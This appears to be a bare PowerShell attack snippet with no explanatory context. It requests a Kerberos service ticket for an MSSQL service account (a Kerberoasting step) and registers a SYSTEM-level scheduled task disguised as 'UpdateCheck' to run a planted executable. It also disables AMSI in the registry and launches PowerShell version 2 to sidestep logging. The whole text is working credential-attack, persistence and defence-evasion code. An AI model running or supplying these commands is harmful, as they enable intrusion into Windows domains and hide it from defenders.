Add-Type -AssemblyName System.IdentityModel
New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'MSSQLSvc/sql01.corp.local:1433'
$service = New-Object -ComObject Schedule.Service
$service.Connect()
$task = $service.NewTask(0)
$action = $task.Actions.Create(0)
$action.Path = 'C:\ProgramData\svc.exe'
$service.GetFolder('\').RegisterTaskDefinition('UpdateCheck', $task, 6, 'SYSTEM', $null, 5)
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows Script\Settings' -Name 'AmsiEnable' -Value 0
powershell.exe -Version 2 -NoProfile -Command "Get-Process"
